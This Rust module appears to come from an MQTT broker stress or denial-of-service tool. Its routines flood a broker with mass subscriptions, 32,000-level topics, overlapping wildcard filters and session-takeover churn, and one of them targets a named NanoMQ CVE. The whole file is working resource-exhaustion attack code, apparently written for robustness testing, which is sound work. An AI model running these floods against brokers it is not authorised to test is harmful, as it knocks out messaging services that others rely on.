//! Subscriptions: too many, too deep, overlapping, and changing all the time.

use std::io;
use std::rc::Rc;

use crate::attacker::Attacker;
use crate::packets::{Connect, PINGREQ, Publish, subscribe, subscription_identifier, unsubscribe};
use crate::stream::RawClient;

/// Levels of a deep topic; its text is nearly as long as a string of MQTT may be.
const LEVELS: usize = 32_000;
/// Filters of one SUBSCRIBE.
const FILTERS: usize = 100;
/// Levels of the overlapping filters: there are 2 to this power of them.
const WILDCARD_LEVELS: usize = 8;
/// Clients with overlapping filters.
const WILDCARD_CLIENTS: usize = 10;
/// Clients that take over each other's sessions.
const CHURNING: usize = 16;

/// Subscribes to `number` filters with a wildcard each; counts the filters.
async fn subscribe_many(
    attacker: &Attacker,
    client: &mut RawClient,
    name: &str,
    number: usize,
) -> io::Result<()> {
    for first in (0..number).step_by(FILTERS) {
        let filters: Vec<String> =
            (first..first + FILTERS).map(|filter| format!("many/{name}/{filter}/+/#")).collect();
        client.send(&subscribe(1, &[], filters.iter().map(String::as_str), 0)).await?;
        attacker.count(FILTERS as u64);
    }
    Ok(())
}

/// 100,000 subscriptions of one client, again and again.
pub(crate) async fn of_one_client(attacker: Rc<Attacker>) {
    let flood = |attacker: Rc<Attacker>, _at| async move {
        let mut client = RawClient::connect(&attacker, &Connect::new("many").encode()).await?;
        for round in 0.. {
            subscribe_many(&attacker, &mut client, &round.to_string(), 100_000).await?;
        }
        Ok(())
    };
    attacker.workers(1, flood).await;
}

/// 1,000 subscriptions of each of 100 clients, which stay.
pub(crate) async fn of_many_clients(attacker: Rc<Attacker>) {
    let flood = |attacker: Rc<Attacker>, at: usize| async move {
        let id = format!("many-{at}");
        let mut client = RawClient::connect(&attacker, &Connect::new(&id).encode()).await?;
        subscribe_many(&attacker, &mut client, &id, 1_000).await?;
        client.closed().await
    };
    attacker.workers(100, flood).await;
}

/// PUBLISH and SUBSCRIBE with 32,000 levels.
pub(crate) async fn deep_topics(attacker: Rc<Attacker>) {
    let topic = Rc::new("a/".repeat(LEVELS));
    let wildcards = Rc::new("+/".repeat(LEVELS) + "#");
    let flood = move |attacker: Rc<Attacker>, at: usize| {
        let (topic, wildcards) = (Rc::clone(&topic), Rc::clone(&wildcards));
        async move {
            let id = format!("deep-{at}");
            let mut client = RawClient::connect(&attacker, &Connect::new(&id).encode()).await?;
            for number in 0..100u32 {
                // Different filters, so that none replaces another.
                let (deep, other) = (format!("{number}/{wildcards}"), format!("{number}/{topic}"));
                client.send(&subscribe(1, &[], [&*deep, &*other], 0)).await?;
                client.send(&Publish::new(&other, b"deep").encode()).await?;
                attacker.count(3);
            }
            Ok(())
        }
    };
    attacker.workers(16, flood).await;
}

/// All filters that replace some levels of one topic by `+`, and those with `#` behind them.
fn overlapping_filters() -> Vec<String> {
    let filter = |mask: usize| -> String {
        let level = |at| if mask >> at & 1 == 0 { "+" } else { "a" };
        (0..WILDCARD_LEVELS).map(level).collect::<Vec<_>>().join("/")
    };
    (0..1 << WILDCARD_LEVELS).flat_map(|mask| [filter(mask) + "/#", filter(mask) + "/+"]).collect()
}

/// Overlapping filters of ten clients, each with a Subscription Identifier, and publishes that match them all.
pub(crate) async fn wildcards(attacker: Rc<Attacker>) {
    let filters = Rc::new(overlapping_filters());
    let flood = move |attacker: Rc<Attacker>, at: usize| {
        let filters = Rc::clone(&filters);
        async move {
            let id = format!("wild-{at}");
            let mut client = RawClient::connect(&attacker, &Connect::new(&id).encode()).await?;
            for (number, filter) in (1..).zip(filters.iter()) {
                client.send(&subscribe(1, &subscription_identifier(number), [&**filter], 0)).await?;
            }
            if at > 1 {
                return client.closed().await;
            }
            let prefix = "a/".repeat(WILDCARD_LEVELS);
            for number in 0u64.. {
                // Each topic is a new one to caches of routes.
                client.send(&Publish::new(&format!("{prefix}{at}-{number}"), b"wild").encode()).await?;
                attacker.count(1);
            }
            Ok(())
        }
    };
    attacker.workers(WILDCARD_CLIENTS, flood).await;
}

/// SUBSCRIBE and UNSUBSCRIBE at full speed by clients that take over each other's session (CVE-2026-22040 of NanoMQ).
pub(crate) async fn churn(attacker: Rc<Attacker>) {
    let flood = |attacker: Rc<Attacker>, at: usize| async move {
        // Four clients for each Client Identifier.
        let id = format!("churn-{}", at % (CHURNING / 4));
        let mut client = RawClient::connect(&attacker, &Connect::resuming(&id, 60).encode()).await?;
        attacker.count(1);
        let filters: Vec<String> = (0..20).map(|filter| format!("churn/{}/{filter}/#", filter % 3)).collect();
        for round in 0..20 {
            let filters = || filters.iter().map(String::as_str);
            client.send(&subscribe(1, &[], filters(), 1)).await?;
            client.send(&Publish::new("churn/1/1/x", b"churn").encode()).await?;
            client.send(&unsubscribe(2, filters())).await?;
            client.send(&PINGREQ).await?;
            attacker.count(2);
            if round % 4 == at % 4 {
                tokio::task::yield_now().await;
            }
        }
        Ok(())
    };
    attacker.workers(CHURNING, flood).await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_overlapping_filters_differ() {
        let filters = overlapping_filters();
        let distinct: std::collections::BTreeSet<_> = filters.iter().collect();
        assert_eq!((filters.len(), distinct.len()), (512, 512));
        assert!(filters.contains(&"+/+/+/+/+/+/+/+/#".to_owned()), "{:?}", filters.first());
        assert!(filters.contains(&"a/a/a/a/a/a/a/a/+".to_owned()), "{:?}", filters.last());
    }
}
